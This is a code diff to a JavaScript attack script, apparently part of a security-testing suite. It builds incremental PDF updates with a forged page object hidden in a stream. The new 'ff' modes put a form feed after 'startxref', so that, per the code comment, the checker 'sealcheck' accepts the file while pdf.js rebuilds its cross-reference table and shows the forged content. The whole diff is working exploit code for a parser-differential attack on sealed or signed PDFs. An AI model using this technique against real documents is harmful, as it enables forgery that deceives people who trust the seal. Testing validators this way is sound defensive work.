@@ -20,10 +20,14 @@ import { judge, latin, page1 } from "../attack-s16/lib.js";
 
 const mode = process.argv[2] ?? "zero-nbsp";
 const where = process.argv[3] ?? "midline";
-if (!["nbsp", "zero-nbsp", "space", "zero-space"].includes(mode) || !["midline", "line"].includes(where))
-  throw new Error("usage: <nbsp|zero-nbsp|space|zero-space> [midline|line]");
+if (!["nbsp", "zero-nbsp", "space", "zero-space", "ff-nbsp", "ff-space", "ff"].includes(mode) || !["midline", "line"].includes(where))
+  throw new Error("usage: <nbsp|zero-nbsp|space|zero-space|ff-nbsp|ff-space|ff> [midline|line]");
+// ff*: the trigger is the update's `startxref` followed by a form feed (0x0C) before its offset: sealcheck skips PDF white
+// space there; pdf.js's startXRef skips only 0x20, 0x09, 0x0D, 0x0A, reads no digit, 0, and rebuilds (indexObjects).
+const ff = mode.startsWith("ff");
 const trigger = mode.startsWith("zero");
 const sep = mode.endsWith("nbsp") ? "\xa0" : " ";
+const forged = mode !== "ff";
 const p = page1();
 const pdf = p.pdf;
 const doc = parsePdf(wholeSource(pdf), resolveLimits());
@@ -50,7 +54,7 @@ if (trigger) {
   off0 = at;
   push(latin("0 0 obj\nnull\nendobj\n"));
 }
-const inner = `${where === "midline" ? "x " : ""}${P}${sep}0${sep}obj ${forgedPage} endobj\n`;
+const inner = !forged ? "nothing\n" : `${where === "midline" ? "x " : ""}${P}${sep}0${sep}obj ${forgedPage} endobj\n`;
 const offA = at;
 push(latin(`${A} 0 obj\n<< /Length ${inner.length} >>\nstream\n${inner}endstream\nendobj\n`));
 const offB = at;
@@ -59,7 +63,7 @@ const x = at;
 const zero = trigger ? `0 1\n${entry(off0, 0)}` : "";
 push(
   latin(
-    `xref\n${zero}${A} 2\n${entry(offA, 0)}${entry(offB, 0)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${x}\n%%EOF\n`,
+    `xref\n${zero}${A} 2\n${entry(offA, 0)}${entry(offB, 0)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref${ff ? "\f" : "\n"}${x}\n%%EOF\n`,
   ),
 );
 judge(`nbsp-header ${mode} ${where}`, save(work(`s19-nbsp-${mode}-${where}`), "archive.pdf", Uint8Array.from(parts.flat())));
